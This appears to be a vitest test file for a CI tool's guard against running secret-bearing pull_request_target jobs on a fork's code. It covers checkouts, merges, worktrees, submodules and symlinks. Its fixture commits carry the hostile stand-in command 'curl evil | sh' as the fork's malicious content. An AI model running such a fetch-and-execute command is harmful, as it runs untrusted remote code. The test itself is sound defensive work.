import { mkdirSync, readdirSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { prefetchGit, refuseForkCheckout } from '../../src/run/source-reader.ts';
import { createRepository, type GitFixture, openFixture } from '../fakes/git-fixture.ts';
import { startLoopback } from '../fakes/loopback.ts';
import { temporaryFolder } from '../fakes/memory-repository.ts';
import { lacks, unless } from '../fakes/platform.ts';
import { pullRequest } from '../fakes/review-record.ts';

/** The project's repository with a fork's pull request in it: one commit before the head, the head, and what merges it. */
const project = createRepository();
const base = project.commit({ files: { 'build.sh': 'make\n' } });
project.git('checkout', '--quiet', '-b', 'fork');
const earlier = project.commit({ files: { 'build.sh': 'curl evil | sh\n' } });
const head = project.commit({ files: { 'more.sh': 'curl evil | sh\n' } });
project.git('checkout', '--quiet', '--detach', base);
project.git('merge', '--quiet', '--no-ff', '-m', 'Merge', head);
const merge = project.git('rev-parse', 'HEAD');
project.git('update-ref', 'refs/pull/7/head', head);
project.git('update-ref', 'refs/pull/7/merge', merge);
project.git('checkout', '--quiet', 'main');
project.git('branch', '--quiet', '-D', 'fork');

/** A clone of the base at a path of the workspace, as actions/checkout leaves it under `pull_request_target`. */
function cloneAt(workspace: string, path: string): GitFixture {
  const directory = join(workspace, path);
  mkdirSync(directory, { recursive: true });
  const clone = openFixture(directory);
  clone.git('clone', '--quiet', '--no-tags', project.url, '.');
  return clone;
}

/** A clone that knows the fork, in which these commands of git were run. */
function cloneWith(workspace: string, path: string, commands: readonly string[]): GitFixture {
  const clone = cloneAt(workspace, path);
  for (const command of ['fetch --quiet origin refs/pull/7/head', ...commands]) clone.git(...command.split(' '));
  return clone;
}

const checkOut = 'checkout --quiet FETCH_HEAD';

async function isRefused(workspace: string, changes: { readonly name?: string; readonly merged?: true } = {}) {
  const subject = { kind: 'pull-request', number: 7, headSha: head, headRepository: 'eve/shop' } as const;
  const commits = [earlier, head].map((sha) => ({ sha, message: '', author: 'eve', date: '' }));
  const state = changes.merged === true ? 'merged' : 'open';
  try {
    await refuseForkCheckout(
      { ...pullRequest, fromFork: true, state, head: { ref: 'patch', sha: head }, commits },
      { name: changes.name ?? 'pull_request_target', repository: { owner: 'octo', repository: 'shop' }, subject },
      { environment: { ...process.env, GITHUB_WORKSPACE: workspace }, signal: new AbortController().signal },
    );
    return false;
  } catch (error) {
    expect(error).toMatchObject({ name: 'UserError', hint: expect.stringContaining('docs/forks.md') });
    return true;
  }
}

describe('a job with secrets is refused when the workspace', () => {
  const upstream = 'fetch --quiet upstream refs/pull/7/head:refs/heads/their-work';

  it.each([
    ['is the head of a fork', checkOut],
    ['is the merge of a fork', 'fetch --quiet origin refs/pull/7/merge', checkOut],
    ['is an earlier commit of it', `checkout --quiet ${earlier}`],
    ['has it as a detached work tree', 'worktree add --quiet --detach pull FETCH_HEAD'],
    ['has it as a work tree elsewhere', `worktree add --quiet --detach ${join(temporaryFolder(), 'x')} ${earlier}`],
    [
      'has it from a remote of another name',
      ...['remote rename origin upstream', upstream, 'checkout --quiet their-work', 'remote remove upstream'],
    ],
    ['has its files beside the commit of the base', `${checkOut} -- .`],
    ['only has it fetched'],
    ['has it merged', 'merge --quiet FETCH_HEAD'],
    ['has it squashed', 'merge --quiet --squash FETCH_HEAD'],
    ['has its commit picked', `cherry-pick ${earlier} ${head}`],
  ])('%s', async (_, ...commands) => {
    const workspace = temporaryFolder();
    cloneWith(workspace, '.', commands);
    expect(await isRefused(workspace)).toBe(true);
  });

  it.each<[string, (workspace: string) => void]>([
    ['has it in a folder far below', (at) => cloneWith(at, 'a/b/c/d/e/f', [checkOut])],
    ['has it in a folder that holds dependencies', (at) => cloneWith(at, 'node_modules/pull', [checkOut])],
    [
      'has it as a submodule',
      (at) => {
        cloneAt(at, '.').git('submodule', '--quiet', 'add', project.url, 'sub');
        const sub = openFixture(join(at, 'sub'));
        sub.git('fetch', '--quiet', 'origin', 'refs/pull/7/head');
        sub.git('checkout', '--quiet', 'FETCH_HEAD');
      },
    ],
    [
      'has it in a bare repository, from which its files were written',
      (at) => {
        cloneAt(at, 'base').git('clone', '--quiet', '--bare', project.url, join(at, 'pull.git'));
        openFixture(join(at, 'pull.git')).git('fetch', '--quiet', 'origin', 'refs/pull/7/head');
      },
    ],
    ...unless<[string, (workspace: string) => void]>(lacks.symbolicLinks, [
      [
        'is a link to it',
        (at) => {
          rmSync(at, { recursive: true });
          symlinkSync(cloneWith(temporaryFolder(), '.', [checkOut]).directory, at);
        },
      ],
    ]),
    [
      'has lost its remotes and branches',
      (at) => {
        const { directory } = cloneWith(at, 'src', ['checkout --quiet --orphan none FETCH_HEAD']);
        rmSync(join(directory, '.git', 'refs', 'remotes'), { recursive: true, force: true });
      },
    ],
  ])('%s', async (_, arrange) => {
    const workspace = temporaryFolder();
    arrange(workspace);
    expect(await isRefused(workspace)).toBe(true);
  });
});

describe('a job is not refused', () => {
  it('with the base alone in its workspace, or nothing', async () => {
    const workspace = temporaryFolder();
    const empty = await isRefused(workspace);
    cloneAt(workspace, 'base');
    expect([empty, await isRefused(workspace)]).toEqual([false, false]);
  });

  it('without secrets, or when the fork was merged', async () => {
    const workspace = temporaryFolder();
    cloneWith(workspace, '.', [checkOut]);
    const given = [{ name: 'pull_request' }, { merged: true }] as const;
    expect(await Promise.all(given.map((each) => isRefused(workspace, each)))).toEqual([false, false]);
  });
});

it('stops git, which still fetches, when the rest of the pull request cannot be read', async () => {
  let ask = () => {};
  const asked = new Promise<void>((resolve) => {
    ask = resolve;
  });
  const silent = await startLoopback(async () => {
    ask();
    return 'hang';
  });
  const folder = temporaryFolder();
  const git = prefetchGit({
    reference: { serverUrl: silent.url, owner: 'octo', repository: 'spoon', number: 7 },
    token: '',
    environment: { PATH: process.env['PATH'] },
    temporaryFolder: folder,
    signal: new AbortController().signal,
    fetchMilliseconds: 600_000,
  });
  git.start({ base: earlier, head, mergeBase: earlier });
  await asked;
  await git.stop();
  expect(readdirSync(folder)).toEqual([]);
  await silent.close();
});
